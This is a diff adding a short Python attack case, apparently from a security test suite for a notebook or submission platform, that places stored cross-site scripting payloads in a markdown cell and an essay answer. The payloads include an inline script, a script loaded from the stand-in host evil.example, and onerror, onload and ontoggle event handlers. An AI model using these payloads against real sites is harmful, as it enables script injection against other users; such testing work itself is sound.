@@ -1,0 +1,16 @@
+"""A text cell and the written answer hold scripts.
+
+Success: active in a page.
+"""
+
+TEXT = """
+<script>document.title = "red"</script>
+<SCRIPT SRC=//evil.example/x.js></SCRIPT>
+<img src=x onerror="alert(1)"> <svg onload=alert(1)> <body onload=alert(1)>
+<details open ontoggle=alert(1)>x</details>
+"""
+
+
+def attack(submission):
+    submission.add(TEXT, kind="markdown")
+    submission.answer("essay", TEXT)
